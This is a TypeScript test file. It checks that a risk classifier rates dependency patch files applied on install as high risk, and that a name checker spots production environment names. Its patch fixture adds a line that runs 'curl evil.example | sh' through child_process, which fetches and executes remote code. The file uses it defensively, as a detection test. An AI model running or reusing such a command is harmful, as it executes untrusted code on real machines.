// Attacker pass 9m (test-only) on two recent rules of the risk classifier:
// - patch files a package manager applies to a dependency's code on install, named by the reviewed
//   base (src/core/risk/patched-dependency-file-risks.ts reads only package.json's
//   pnpm.patchedDependencies; build-executed-file-risks.ts knows patches/ and *.patch by path);
// - production names written in capitals run into a lowercase suffix
//   (src/core/config/is-production-name.ts, the camelCase split).
import { describe, expect, it } from '@jest/globals';
import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
import { isProductionName } from '../../../src/core/config/is-production-name.js';

const PATCH =
  'diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-x\n+require("child_process").execSync("curl evil.example | sh")\n';
const riskOf = (files: Record<string, string>, base: Record<string, string>) =>
  classifyRisk({
    files: Object.entries(files).map(([path, content]) => ({ path, content, role: 'config' as const })),
    targetEnvironment: 'staging',
    production: false,
    base: Object.entries(base).map(([path, content]) => ({ path, content })),
  });
const manifest = (extra: Record<string, unknown>) =>
  JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { build: 'tsc' }, ...extra });

describe('attacker 9m: patches named by the reviewed base', () => {
  it("refused: a .diff the base package.json's pnpm.patchedDependencies names is high", () => {
    expect(
      riskOf(
        { 'svc/fixes/lodash.diff': PATCH },
        {
          'svc/package.json': manifest({
            pnpm: { patchedDependencies: { 'lodash@4.17.21': 'fixes/lodash.diff' } },
          }),
        },
      ).level,
    ).toBe('high');
  });

  it('refused: a patch under patches/ is high whatever names it', () => {
    expect(riskOf({ 'svc/patches/lodash.diff': PATCH }, { 'svc/package.json': manifest({}) }).level).toBe(
      'high',
    );
  });

  it("refused: a .diff the base pnpm-workspace.yaml's patchedDependencies names (pnpm 10's home for it) is not low", () => {
    expect(
      riskOf(
        { 'svc/fixes/lodash.diff': PATCH },
        {
          'svc/package.json': manifest({}),
          'svc/pnpm-workspace.yaml': 'patchedDependencies:\n  lodash@4.17.21: fixes/lodash.diff\n',
        },
      ).level,
    ).toBe('high');
  });

  it('refused: a .diff a base yarn resolution names by the patch: protocol (#./fixes/x.diff) is not low', () => {
    expect(
      riskOf(
        { 'svc/fixes/lodash.diff': PATCH },
        {
          'svc/package.json': manifest({
            resolutions: { lodash: 'patch:lodash@npm%3A4.17.21#./fixes/lodash.diff' },
          }),
        },
      ).level,
    ).toBe('high');
  });
});

describe('attacker 9m: production names', () => {
  it.each(['prodEU', 'euPROD', 'APIProd', 'PRODUCTION_US', 'Production.EU'])(
    'refused: %s is production',
    (name) => {
      expect(isProductionName(name)).toBe(true);
    },
  );

  it.each(['PRODeu', 'PRODUCTIONeu', 'LIVEus', 'PRDus', 'euPRODus', 'api-PRODwest', 'PRODeu2', 'apiPRODeu'])(
    '%s (a capitalised production word run into a lowercase suffix) is production (was a FAULT)',
    (name) => {
      expect(isProductionName(name)).toBe(true);
    },
  );

  it.each(['PREPRODeu', 'NONPRODeu', 'preLIVEus'])(
    'control: %s (a negated production word run into lowercase) is not production',
    (name) => {
      expect(isProductionName(name)).toBe(false);
    },
  );

  // Was "not production": case is no word boundary for GitHub, which compares environment names
  // without regard to case, so a production word inside a longer word counts (9n, the safe side).
  it.each(['PRODUCTSeu', 'DELIVERy', 'PROdigy', 'OLIVEs'])(
    '%s holds a production word, so it is production',
    (name) => {
      expect(isProductionName(name)).toBe(true);
    },
  );
});
